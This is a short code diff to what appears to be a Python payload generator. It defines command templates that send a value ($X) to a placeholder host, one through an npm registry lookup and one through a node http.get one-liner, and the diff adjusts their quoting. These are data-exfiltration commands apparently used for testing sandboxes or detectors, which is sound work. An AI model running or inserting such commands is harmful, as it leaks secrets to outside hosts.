@@ -60,7 +60,7 @@ SLOW_CHANNELS: Mapping[str, str] = {
         'npm --fetch-retries=0 --fetch-timeout=3000 --cache=/tmp/npm view --registry "http://@HOST@:@PORT@/$X/" nothing'
     ),
     "a request of node": (
-        "node -e 'require(\"http\").get(\"http://@HOST@:@PORT@/?k=\" + process.argv[1]).on(\"error\", console.log)' \"$X\""
+        'node -e \'require("http").get("http://@HOST@:@PORT@/?k=" + process.argv[1]).on("error", console.log)\' "$X"'
     ),
 }
 
@@ -122,7 +122,6 @@ def by_tools() -> Iterator[Payload]:
                 f"{name}, then {sending}, {encoding}",
                 (*steps, (_encoded(SENDS[sending], encoding),)),
                 "sandbox" if is_run and "in a script" not in name or "background" in name else "floor",
-                is_fully_told=False,
             )
 
 
